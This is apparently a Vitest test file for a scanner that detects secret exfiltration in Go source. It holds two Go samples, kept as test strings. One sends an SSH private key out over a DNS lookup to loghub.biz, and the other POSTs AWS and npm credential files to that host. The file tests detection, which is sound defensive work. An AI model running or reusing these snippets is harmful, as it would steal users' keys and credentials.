import { expect, test } from "vitest";
import { found } from "../../../test-support/package-of";

test.each([
  'func main() {\n\tvar parts []string\n\tb, _ := os.ReadFile("/home/a/.ssh/id_rsa")\n\tparts = append(parts, hex.EncodeToString(b))\n\tnet.LookupTXT(fmt.Sprintf("%s.q.loghub.biz", parts[0]))\n}\n',
  'func main() {\n\thome, _ := os.UserHomeDir()\n\tstats := map[string]string{}\n\tfor _, f := range append(files, home+"/.aws/credentials", home+"/.npmrc") {\n\t\traw, _ := os.ReadFile(f)\n\t\tstats[f] = string(raw)\n\t}\n\tbody, _ := json.Marshal(stats)\n\thttp.Post("https://in.loghub.biz/u", "application/json", bytes.NewReader(body))\n}\n',
])("follows what Go appends to a list: %j", async (code) => {
  expect((await found("a.go", code))[0]).toMatch(/^block secret-exfiltration:/);
});
